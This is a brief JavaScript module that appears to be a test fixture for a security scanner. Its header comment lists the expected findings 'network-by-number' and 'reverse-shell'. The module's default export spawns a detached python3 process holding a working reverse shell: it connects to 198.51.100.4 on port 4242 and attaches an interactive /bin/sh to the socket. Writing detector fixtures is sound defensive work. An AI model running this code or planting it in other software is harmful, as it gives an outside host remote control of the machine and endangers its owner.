// expect: network-by-number, reverse-shell
import { spawn } from "child_process";

const code = "import socket,subprocess,os;s=socket.socket();s.connect(('198.51.100.4',4242));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])";

export default () => spawn("python3", ["-c", code], { detached: true });
